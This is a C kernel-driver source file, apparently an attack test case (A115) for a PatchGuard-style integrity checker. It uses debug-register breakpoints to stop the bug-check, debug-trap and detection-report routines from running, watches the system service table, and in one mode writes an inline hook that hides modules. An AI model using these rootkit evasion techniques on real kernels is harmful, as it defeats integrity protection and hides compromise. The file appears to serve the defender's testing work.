/* attack_a115_debug_regs (A115): debug-register breakpoints, no patch.
 * The kernel sets none of DR0-DR3 and DR7, and nothing compared them: a
 * driver arms execution breakpoints (DR7 L0-L3) that change no byte of
 * memory and no register PatchGuard read.
 *   (default, `stop`) dormant breakpoints on the kernel's stop path: DR0 on
 *     the bug-check routine and DR1 on the debug-trap routine, both read
 *     from the exported debug_routines: the next bug check takes a #DB at
 *     the first instruction of the stop routine, and the #DB's own routine
 *     takes another. Nothing runs them until something stops.
 *   `swallow` the same with DR2 on PatchGuard's report (pg_report, whose
 *     address the scenario writes into report_at from the built image with
 *     printk's, for the kernel's random base), then A2's inline hook: the
 *     detection's report takes the #DB, and the kernel's stop path another.
 *   `watch` a read/write data breakpoint on the system service table
 *     (found as A1 does, from LSTAR), which PatchGuard hashes: a rootkit's
 *     signal of when a pass reads the table.
 * Expected (before the fix): `stop` and `watch` no 0x109 (`watch` a 0x1E
 * at the first read that hits), `swallow` no 0x109 (a #DB instead). */
#include "attack.h"
#include <kpp/bugcheck.h>

#define DR7_L(n) (1ull << (2 * (n)))
#define DR7_RW(n, rw) ((uint64_t)(rw) << (16 + 4 * (n)))
#define DR7_LEN(n, len) ((uint64_t)(len) << (18 + 4 * (n)))
#define DR7_RESERVED 0x400ull

/* Set by the scenario (`swallow`) from the built image's symbols. */
volatile uint64_t printk_at, report_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;

static void set_dr(int n, uint64_t v)
{
	switch (n) {
	case 0: __asm__ volatile("mov %0, %%dr0" ::"r"(v)); break;
	case 1: __asm__ volatile("mov %0, %%dr1" ::"r"(v)); break;
	case 2: __asm__ volatile("mov %0, %%dr2" ::"r"(v)); break;
	case 3: __asm__ volatile("mov %0, %%dr3" ::"r"(v)); break;
	}
}

static void set_dr7(uint64_t v) { __asm__ volatile("mov %0, %%dr7" ::"r"(v) : "memory"); }

/* DR0 and DR1 on the kernel's bug-check and debug-trap routines. */
static uint64_t arm_stop_path(void)
{
	set_dr(0, (uint64_t)debug_routines.stop);
	set_dr(1, (uint64_t)debug_routines.trap);
	return DR7_L(0) | DR7_L(1);
}

static const struct driver_object *hooked_module_find(const char *name) { return NULL; }

static void swallow(struct dpc *d, void *arg)
{
	if (!report_at || !printk_at)
		return;
	timer_cancel(&wait_timer);
	uint64_t report = report_at + ((uint64_t)&printk - printk_at);
	uint64_t target = (uint64_t)&module_find, hook = (uint64_t)&hooked_module_find;
	uint8_t jmp[5] = {0xE9};
	int32_t rel = (int32_t)(hook - (target + 5));
	memcpy(jmp + 1, &rel, 4);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	uint64_t dr7 = arm_stop_path();
	set_dr(2, report);
	set_dr7(DR7_RESERVED | dr7 | DR7_L(2));
	a_write_protected((void *)target, jmp, sizeof jmp);
	printk("attack_a115: breakpoints on the stop path and PatchGuard's report, then module_find hooked\n");
	a_patched("attack_a115");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	const char *mode = drv->args && *drv->args ? drv->args : "stop";
	if (!strcmp(mode, "swallow")) {
		dpc_init(&wait_dpc, swallow, NULL);
		timer_init(&wait_timer, &wait_dpc);
		timer_set(&wait_timer, 1000000ull, 1000000ull);
		printk("attack_a115: waiting for the address of PatchGuard's report\n");
		return KPP_STATUS_SUCCESS;
	}
	uint64_t pf = a_cli();
	if (!strcmp(mode, "stop")) {
		set_dr7(DR7_RESERVED | arm_stop_path());
		printk("attack_a115: execution breakpoints on the kernel's stop and debug-trap routines\n");
	} else if (!strcmp(mode, "watch")) {
		uint64_t *table = a_find_service_table();
		if (!table) {
			a_restore(pf);
			printk("attack_a115: service table not found\n");
			return KPP_STATUS_UNSUCCESSFUL;
		}
		set_dr(3, (uint64_t)table);
		set_dr7(DR7_RESERVED | DR7_L(3) | DR7_RW(3, 3) | DR7_LEN(3, 2));
		printk("attack_a115: a read/write breakpoint on the system service table\n");
	} else {
		a_restore(pf);
		printk("attack_a115: unknown mode\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	a_patched("attack_a115");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
